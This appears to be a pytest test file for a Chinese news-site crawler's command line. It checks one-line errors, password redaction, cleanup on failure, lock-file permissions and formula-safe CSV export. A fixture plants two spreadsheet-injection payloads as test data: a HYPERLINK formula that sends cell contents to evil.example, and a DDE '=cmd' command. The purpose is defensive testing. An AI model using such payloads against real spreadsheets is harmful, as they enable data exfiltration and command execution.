"""Careless use of every command: one line naming the problem and the option, a
documented exit code, nothing created or left behind, never a password."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from sqlalchemy import text
from sqlalchemy.engine import Engine

from liuzhou_spider.cli import main
from liuzhou_spider.messages import redact
from storage.db import make_engine
from storage.export import export_articles, spreadsheet_safe

PASSWORD = "s3cret-pw"
UNREACHABLE = f"postgresql://analyst:{PASSWORD}@127.0.0.1:1/lz"

# Every command that takes --db, with the arguments it needs besides.
DB_COMMANDS = {
    "crawl": ["crawl", "--start-url", "http://127.0.0.1:1/"],
    "demo": ["demo", "--size", "5"],
    "export": ["export"],
    "stats": ["stats"],
    "db upgrade": ["db", "upgrade"],
    "reprocess": ["reprocess"],
}


def run(*args: str, cwd: Path | None = None) -> Result:
    runner = CliRunner()
    if cwd is None:
        return runner.invoke(main, list(args))
    with runner.isolated_filesystem(temp_dir=cwd):
        return runner.invoke(main, list(args))


def one_line_error(result: Result, code: int, *words: str) -> None:
    """The command failed with ``code`` and one stderr line holding ``words``."""
    assert result.exit_code == code, (result.stdout, result.stderr, result.exception)
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), result.stderr
    assert "Traceback" not in result.stderr and PASSWORD not in result.output
    for word in words:
        assert word in lines[0], lines[0]


@pytest.mark.parametrize("command", DB_COMMANDS)
def test_an_unreachable_database_is_one_line_without_its_password(command: str) -> None:
    one_line_error(run(*DB_COMMANDS[command], "--db", UNREACHABLE), 1, "--db", "analyst:***@")


@pytest.mark.parametrize("command", DB_COMMANDS)
def test_a_database_in_a_missing_folder_is_one_line_and_creates_nothing(
    command: str, tmp_path: Path
) -> None:
    missing = tmp_path / "no-such-folder"
    result = run(*DB_COMMANDS[command], "--db", f"sqlite:///{missing}/lz.db")
    one_line_error(result, 1, "--db")
    assert not missing.exists()


def test_a_crawl_that_cannot_open_its_database_leaves_no_jobdir(tmp_path: Path) -> None:
    jobdir = tmp_path / "job"
    one_line_error(run(*DB_COMMANDS["crawl"], "--db", UNREACHABLE, "--jobdir", str(jobdir)),
                   1, "--db")
    assert not jobdir.exists()


@pytest.mark.parametrize("command", DB_COMMANDS)
def test_a_malformed_database_url_is_a_bad_command_line(command: str) -> None:
    one_line_error(run(*DB_COMMANDS[command], "--db", "nonsense://x"), 2, "--db")


def test_redact_hides_every_password_and_only_passwords() -> None:
    assert redact("on postgresql+psycopg://me:p@ss:w/rd@db.example:5432/lz?x=1") == (
        "on postgresql+psycopg://me:***@db.example:5432/lz?x=1")
    assert redact("sqlite:////var/lib/liuzhou/liuzhou.db") == "sqlite:////var/lib/liuzhou/liuzhou.db"
    assert redact("postgresql://me@db/lz") == "postgresql://me@db/lz"


@pytest.mark.parametrize(("args", "words"), [
    (["crawl", "--start-url", "www.lztz.gov.cn"], ["--start-url"]),
    (["crawl", "--start-url", "ftp://127.0.0.1/"], ["--start-url"]),
    (["crawl", "--start-url", "http://127.0.0.1:99999/"], ["--start-url"]),
    (["crawl", "--start-url", "http://127.0.0.1:1/", "--log-file", "/no/such/dir/c.log"],
     ["--log-file"]),
    (["crawl", "--host-alias", "http://lztz.gov.cn/"], ["--host-alias"]),
    (["crawl", "--host-alias", "lztz.gov.cn:99999"], ["--host-alias"]),
    (["export", "--since", "2026-13-45"], ["--since"]),
    (["export", "--since", "2026-01-01garbage"], ["--since"]),
    (["export", "--format", "json", "--spreadsheet-safe"], ["--spreadsheet-safe"]),
    (["reprocess", "--until", "yesterday"], ["--until"]),
    (["reprocess", "--since", "2026-02-30"], ["--since"]),
])
def test_bad_options_are_refused_before_anything_starts(
    args: list[str], words: list[str], tmp_path: Path
) -> None:
    one_line_error(run(*args, "--db", f"sqlite:///{tmp_path}/lz.db"), 2, *words)
    assert not (tmp_path / "lz.db").exists()


@pytest.fixture
def stored(engine: Engine, repo: object) -> str:
    """A database holding ``history()``, one title a formula, one body a command."""
    from tests.conftest_db import populate

    populate(repo)  # type: ignore[arg-type]
    with engine.begin() as connection:
        connection.execute(text("UPDATE articles SET title = :t WHERE id = 'aaaaaaaaaaaaaaaa'"),
                           {"t": '=HYPERLINK("http://evil.example/?"&A1,"点击")'})
        connection.execute(text("UPDATE articles SET body_text = :b WHERE id = 'bbbbbbbbbbbbbbbb'"),
                           {"b": "=cmd|' /C calc'!A0"})
    return engine.url.render_as_string(hide_password=False)


def test_export_to_a_missing_folder_or_a_folder_is_refused(stored: str, tmp_path: Path) -> None:
    one_line_error(run("export", "--db", stored, "-o", str(tmp_path / "no" / "a.jsonl")), 2,
                   "--output", "does not exist")
    out = tmp_path / "out"
    out.mkdir()
    one_line_error(run("export", "--db", stored, "-o", str(out)), 2, "--output", "folder")
    assert list(out.iterdir()) == [] and not (tmp_path / "no").exists()


def test_an_unknown_column_names_the_closest(stored: str, tmp_path: Path) -> None:
    target = tmp_path / "a.jsonl"
    one_line_error(run("export", "--db", stored, "--column", "工作时", "-o", str(target)), 2,
                   "--column", "工作时讯")
    assert not target.exists()


def test_a_failed_export_leaves_no_part_file(stored: str, tmp_path: Path,
                                             monkeypatch: pytest.MonkeyPatch) -> None:
    import storage.export

    def failing(*args: object, **kwargs: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(storage.export, "export_articles", failing)
    out = tmp_path / "out"
    out.mkdir()
    one_line_error(run("export", "--db", stored, "--format", "csv", "-o", str(out / "a.csv")),
                   1, "No space left")
    assert list(out.iterdir()) == []


def test_an_export_stopped_by_ctrl_c_exits_6_and_leaves_nothing(
    stored: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import storage.export

    def interrupted(*args: object, **kwargs: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(storage.export, "export_articles", interrupted)
    out = tmp_path / "out"
    out.mkdir()
    one_line_error(run("export", "--db", stored, "-o", str(out / "a.jsonl")), 6, "Ctrl-C")
    assert list(out.iterdir()) == []


def csv_cells(engine_url: str, **options: bool) -> dict[str, dict[str, str]]:
    engine = make_engine(engine_url)
    out = io.BytesIO()
    try:
        export_articles(engine, "csv", out, **options)
    finally:
        engine.dispose()
    rows = csv.DictReader(io.StringIO(out.getvalue().decode("utf-8-sig")))
    return {row["id"]: row for row in rows}


def test_spreadsheet_csv_never_starts_a_cell_with_a_formula(stored: str) -> None:
    for options in ({"bom": True}, {"spreadsheet": True}):
        rows = csv_cells(stored, **options)
        assert rows["aaaaaaaaaaaaaaaa"]["title"].startswith("'=HYPERLINK(")
        assert rows["bbbbbbbbbbbbbbbb"]["body_text"] == "'=cmd|' /C calc'!A0"
        for row in rows.values():
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
                           for cell in row.values())
    faithful = csv_cells(stored)  # plain CSV: the stored text, as JSON has it
    assert faithful["bbbbbbbbbbbbbbbb"]["body_text"] == "=cmd|' /C calc'!A0"
    assert json.loads(faithful["aaaaaaaaaaaaaaaa"]["urls"])


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_spreadsheet_safe_quotes_every_formula_start(cell: str) -> None:
    assert spreadsheet_safe(cell) == "'" + cell
    assert spreadsheet_safe("南国" + cell) == "南国" + cell


@pytest.mark.parametrize("url", ["foo", "http://[::1", "ftp://www.lztz.gov.cn/a.html"])
def test_extract_refuses_a_url_that_is_no_web_address(url: str) -> None:
    page = Path(__file__).parent / "pages" / "topic.html"
    one_line_error(run("extract", str(page), "--url", url), 2, "--url")


@pytest.mark.parametrize(("content", "words"), [
    (b"", ["empty"]),
    (b"  \n\n", ["empty"]),
    (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40, ["binary"]),
    (bytes(range(256)) * 40, ["binary"]),
])
def test_extract_refuses_empty_and_binary_files(content: bytes, words: list[str],
                                                tmp_path: Path) -> None:
    page = tmp_path / "page.html"
    page.write_bytes(content)
    result = run("extract", str(page))
    one_line_error(result, 1, "PAGE", *words)
    assert result.stdout == ""


def test_the_lock_of_an_sqlite_database_sits_next_to_it_private_to_its_users(
    tmp_path: Path
) -> None:
    """Not in a shared world-writable folder under a name anyone can compute: another
    local user cannot create it first, nor open it to hold the crawls off."""
    import stat

    from liuzhou_spider.runner import CrawlOptions, Locked, lock_path, run_lock

    db = tmp_path / "lz.db"
    options = CrawlOptions(db_url=f"sqlite:///{db}?timeout=30")
    assert lock_path(options.db_url) == tmp_path / "lz.db.lock"
    assert lock_path("sqlite:///:memory:") is None
    assert lock_path("postgresql://me@db/lz") is None  # the server's advisory lock
    with run_lock(options):
        mode = stat.S_IMODE((tmp_path / "lz.db.lock").stat().st_mode)
        assert mode & 0o007 == 0
        with pytest.raises(Locked, match="another crawl is running"), run_lock(options):
            pass


def test_a_lock_taken_for_a_database_that_never_came_is_removed(tmp_path: Path) -> None:
    from liuzhou_spider.runner import CrawlOptions, run_lock

    with run_lock(CrawlOptions(db_url=f"sqlite:///{tmp_path}/typo.db")):
        assert (tmp_path / "typo.db.lock").exists()
    assert list(tmp_path.iterdir()) == []
